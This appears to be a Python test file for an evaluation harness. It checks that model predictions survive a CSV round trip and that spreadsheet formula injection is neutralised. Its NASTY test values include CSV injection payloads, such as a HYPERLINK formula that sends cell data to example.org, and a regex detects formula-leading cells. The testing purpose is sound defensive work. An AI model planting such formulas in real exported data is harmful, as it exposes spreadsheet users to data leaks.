"""A CSV of predictions reads back to the last character and scores the same; no spreadsheet computes it."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from pathlib import Path
from tempfile import TemporaryDirectory

import numpy as np
import pandas as pd
import pytest
from counting import LABELS, make_dataset
from hypothesis import example, given, settings
from hypothesis import strategies as st

from harness.datasets import Dataset
from harness.errors import UsageError
from harness.models import Context
from harness.models.predictions_csv import PredictionsCsv
from harness.predictions import OUTCOMES, Cell, Predictions, join
from harness.predictions.csv_file import write_csv
from harness.predictions.outside import join_table
from harness.reporting.metric_table import metric_table
from harness.reporting.unanswered import unanswered
from harness.tools.csv_cells import inert, meant

CELL = Cell("llava", "tiny", "test", "none", "plain")
TEXTS = st.text(st.characters(exclude_categories=("Cs",)), max_size=20)
NASTY = (
    "=HYPERLINK(\"http://example.org?\"&A1)", "+1", "-1", "@SUM(A1)", "\t=1", "a\n=1", "a;=1;b", "'=1", "''",
    "＝1", "one\r=two", "line\r\nline", 'say "happy", or', "NA", "nan", " happy ", "nul\0l", "😀", ",", "1e5",
)  # fmt: skip
FOREIGN = st.sampled_from([text for text in NASTY if text.strip() not in LABELS])


def predictions(dataset: Dataset, rows: list[tuple[str, str | None, str | None, str | None]], scores=None):
    table = pd.DataFrame(rows, columns=["outcome", "label", "raw_text", "reason"], dtype=object)
    table = table.assign(latency_s=0.5, pixel_digest="")
    for column, name in enumerate(LABELS if scores is not None else ()):
        table[f"score_{name}"] = np.asarray(scores, np.float32)[:, column]
    return join(CELL, dataset, table, LABELS)


def read_back(folder: Path, dataset: Dataset) -> Predictions:
    return join_table(CELL, dataset, PredictionsCsv(context=Context(folder, folder), path="out.csv"))


def kept(read: Predictions) -> list[list[object]]:
    """What a CSV holds; an empty text and no text are both an empty field, a NUL is its picture."""
    table = read.table[["sample_id", "gold", "outcome", "label", "raw_text", "reason"]].astype(object)
    return [
        [None if pd.isna(cell) or cell == "" else cell.replace("\0", "\u2400") for cell in row]
        for row in table.to_numpy()
    ]


@st.composite
def answers(draw):
    outcome = draw(st.sampled_from(OUTCOMES))
    label = draw(st.sampled_from(LABELS)) if outcome == "parsed" else draw(st.none() | FOREIGN)
    reason = draw(st.none() | TEXTS | st.sampled_from(NASTY))
    text = draw(TEXTS | st.sampled_from(NASTY))
    return outcome, label, text or "-", reason


@settings(max_examples=60)
@given(st.lists(answers(), min_size=6, max_size=6), st.booleans())
def test_every_answer_reads_back_and_every_metric_is_the_same(rows, scored):
    dataset = make_dataset(6)
    scores = None
    if scored:
        scores = np.full((6, 3), 0.125)
        best = [LABELS.index(label) if label in LABELS else 0 for _, label, _, _ in rows]
        scores[range(6), best] = 0.75
    made = predictions(dataset, rows, scores)
    with TemporaryDirectory() as folder:
        write_csv(made, Path(folder) / "out.csv")
        again = read_back(Path(folder), dataset)
        cells = list(csv.reader(io.StringIO((Path(folder) / "out.csv").read_bytes().decode(), newline="")))
    assert kept(again) == kept(made)
    assert (again.probabilities is None) == (not scored)
    pd.testing.assert_frame_equal(metric_table(again, replicates=50), metric_table(made, replicates=50))
    assert not again.problems
    for text in (text for row in cells for text in row):
        assert not re.search(r"(^|[;|\t\r\n])[=+\-@＝＋－＠].", text, re.DOTALL), text


@given(st.text("'=+-@;|\t\r\nA＝", max_size=12))
@example("'" * 3 + "=")
def test_what_makes_a_text_inert_is_undone(text):
    assert meant(inert(text)) == text
    assert inert(f"nul\0{text}").startswith("nul\u2400")
    assert inert(text) == text or inert(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["happy", "'quoted'", "a-b", "a = b", "f(x)=1", "1,-2", "don't", "-"])
def test_other_texts_stand_as_they_are(text):
    assert inert(text) == meant(text) == text


def test_the_columns_are_those_that_anybody_reads(tmp_path):
    scores = [[0.5, 0.25, 0.25]] * 3
    rows = [
        ("parsed", "angry", "Angry.", None),
        ("refusal", None, "I can't.", None),
        ("failed", None, None, "-1"),
    ]
    write_csv(predictions(make_dataset(3), rows, scores), tmp_path / "out.csv")
    table = pd.read_csv(tmp_path / "out.csv", dtype={"sample_id": str})
    scored = [f"score_{label}" for label in LABELS]
    assert list(table) == ["sample_id", "gold", "label", "outcome", *scored, "raw_text", "reason"]
    assert list(table["outcome"]) == ["parsed", "refusal", "failed"]
    assert list(table["gold"]) == [sample.label for sample in make_dataset(3).samples]
    assert table["reason"][2] == "'-1"


def test_what_stands_under_the_table_stands_there_again(tmp_path):
    rows = [
        ("parsed", "angry", "angry", None),
        ("refusal", None, "No.", "a filter"),
        ("failed", None, None, None),
    ]
    made = predictions(make_dataset(3), rows)
    made = replace(made, table=made.table.assign(remark=["=odd finish", None, None]))
    write_csv(made, tmp_path / "out.csv")
    assert unanswered(read_back(tmp_path, make_dataset(3))) == unanswered(made)
    assert len(unanswered(made)) == 3


def test_a_folder_in_its_place_is_one_line(tmp_path):
    (tmp_path / "out.csv").mkdir()
    with pytest.raises(UsageError, match=r"out\.csv cannot be written \(Is a directory\)"):
        write_csv(predictions(make_dataset(3), [("parsed", "sad", None, None)] * 3), tmp_path / "out.csv")
